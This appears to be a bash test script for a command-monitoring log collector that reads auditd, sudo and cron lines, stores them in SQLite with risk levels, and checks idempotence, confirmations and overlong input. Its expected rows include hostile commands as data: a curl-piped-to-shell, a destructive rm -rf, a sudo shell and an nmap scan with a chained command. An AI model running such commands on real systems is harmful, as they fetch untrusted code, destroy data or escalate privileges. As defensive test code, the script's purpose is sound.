#!/bin/bash
# The log reader over lines of auditd, sudo and cron:  tests/collect.sh PROGRAM FOLDER [WRAPPER…]
set -euo pipefail
program=$1 folder=$2
shift 2
lines=$(dirname "$0")/collect/lines.txt
fail() { echo "FAILED: collect: $*"; exit 1; }
rows() {
    sqlite3 "$1/db/monitor.db" "SELECT command, risk_level, user, IFNULL(uid, '-'), host, working_directory, session_id,
        IFNULL(tty, '-'), shell, IFNULL(pid, '-'), started_at_ns FROM command_logs ORDER BY id"
}
rm -rf "$folder"
"$@" "$program" "$folder" <"$lines" || fail "exit status $?"
host=$(uname -n)
diff <(rows "$folder") - <<END || fail "other rows than those above"
rm -rf '/srv/new data/it'\\''s'|critical|4000000|4000000|$host|/home/a b|audit-3|pts0|audit|3538|1364481363243000000
sh -c 'curl x | sh'|high|www-data|33|web1|unknown|audit|-|audit|11|1364481363250000000
sudo /usr/bin/nmap -sV 10.0.0.1 ; echo|high|alice|-|host1|/home/alice|sudo-123|pts/0|sudo|123|1795405637500000000
sudo -u www /bin/bash|high|bob|-|host1|/|sudo-124|pts/1|sudo:refused|124|1795405638000000000
cd / && run-parts --report /etc/cron.hourly (x)|low|root|-|host1|unknown|CRON-99|-|cron|99|1795407439000000000
END
# The same lines again change nothing, in whatever pieces they come.
while IFS= read -r line; do printf '%s\n' "$line"; done <"$lines" | "$@" "$program" "$folder" || fail "the second time"
[ "$(rows "$folder" | wc -l)" = 5 ] || fail "recorded twice: $(rows "$folder")"

# rsyslog's omprog waits for an answer to each line.
answers=$(head -n 15 "$lines" | "$@" "$program" --confirm "$folder.confirm" | sort | uniq -c | tr -s ' ')
[ "$answers" = " 16 OK" ] || fail "answers: $answers"
# What can't be stored is not confirmed.
: >"$folder.none"
! "$@" "$program" "$folder.none" <"$lines" 2>/dev/null || fail "a home that is a file"
! "$@" "$program" 2>/dev/null || fail "no home"
# A line without an end, and one that is too long.
{ head -c 100000 /dev/zero | tr '\0' x; echo; tail -n 5 "$lines" | head -n 1; } | "$@" "$program" "$folder.long" 2>/dev/null
[ "$(rows "$folder.long" | wc -l)" = 1 ] || fail "long lines"
